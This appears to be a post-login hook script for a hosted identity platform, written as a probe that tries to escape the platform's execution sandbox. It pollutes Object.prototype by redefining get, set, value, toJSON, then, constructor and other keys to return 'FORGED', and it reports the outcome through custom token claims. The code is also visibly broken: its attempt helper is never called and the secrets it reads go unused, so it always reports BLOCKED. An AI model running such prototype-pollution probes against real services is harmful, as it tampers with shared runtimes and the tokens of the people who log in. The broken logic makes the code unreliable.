// Object.prototype gets get, set, value, toJSON and then, so that every descriptor and option is changed
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [];
  const attempt = async (label, act) => { try { const r = await act(); if (r) found.push(label + ' ' + String(r).slice(0, 80)); } catch {} };
  api.idToken.setCustomClaim('genuine', 1);
  for (const k of ['get', 'set', 'value', 'writable', 'enumerable', 'toJSON', 'then', 'encoding', 'flag', 'signal', 'type', 'data', 'location', 'nonce', 'length', 'constructor']) try { Object.defineProperty(Object.prototype, k, { value: () => 'FORGED', configurable: true, writable: true }); } catch {}
  console.log('still here', { a: 1 });
  api.accessToken.setCustomClaim('genuine2', 2);
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
